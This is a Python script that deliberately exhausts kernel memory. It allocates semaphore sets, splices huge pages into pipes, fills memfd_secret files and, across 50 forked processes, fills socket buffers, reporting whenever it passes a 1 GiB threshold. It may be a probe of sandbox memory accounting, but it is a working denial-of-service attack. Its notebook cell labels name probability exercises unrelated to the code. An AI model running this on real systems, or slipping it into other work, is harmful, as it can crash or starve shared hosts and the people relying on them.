"""Takes memory of the kernel: semaphores, secret files, full sockets, pipes that hold huge pages.

stock: no, it takes all memory
"""

import ctypes
import mmap
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.vmsplice.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_uint]
HUGE, MEMFD_SECRET = 2 << 20, 447
ROOM = 1 << 30  # what it may take

# sets of semaphores, each 64 bytes long
sets = 0
began = time.time()
while sets < 560 and time.time() < began + 3 and libc.semget(0, 32_000, 0o600) >= 0:
    sets += 1
print("TOOK MEMORY: semaphores" if sets * 32_000 * 64 > ROOM else sets)


# %% probabilities_by_hand
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


pipes, held = [], 0
for _ in range(40):
    pipes.append(os.pipe())
    for _ in range(15):
        start = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        page = -(-start // HUGE) * HUGE
        libc.madvise(page, HUGE, 14)
        ctypes.memset(page, 1, 1)
        held += libc.vmsplice(pipes[-1][1], ctypes.byref(Piece(page, 100)), 1, 0) > 0
        libc.munmap(start, 2 * HUGE)
print("TOOK MEMORY: pipes" if held * HUGE > ROOM else held)


# %% softmax
for ours, theirs in pipes:
    os.close(ours), os.close(theirs)
began, secrets = time.time(), []
while len(secrets) < 160 and time.time() < began + 4.5:
    file = libc.syscall(MEMFD_SECRET, 0)
    if file < 0:
        break
    os.ftruncate(file, 7 << 20)
    with mmap.mmap(file, 7 << 20) as memory:
        for place in range(0, 7 << 20, 4096):
            memory[place] = 1
    secrets.append(file)
print("TOOK MEMORY: secret files" if len(secrets) * (7 << 20) > ROOM // 2 else len(secrets))


# %% is_distribution
for file in secrets:
    os.close(file)


def fill():
    """Fill as many sockets as a process may have; the bytes in them."""
    filled, sockets = 0, []
    try:
        while True:
            sockets += socket.socketpair()
            for end in sockets[-2:]:
                end.setblocking(False)
                try:
                    while True:
                        filled += end.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
    except OSError:
        return filled, sockets


ours, theirs = os.pipe()
for _ in range(50):
    if os.fork() == 0:
        filled, sockets = fill()
        os.write(theirs, filled.to_bytes(8, "little"))
        time.sleep(60)
filled = sum(int.from_bytes(os.read(ours, 8), "little") for _ in range(50))
print("TOOK MEMORY: sockets" if filled > ROOM else filled)
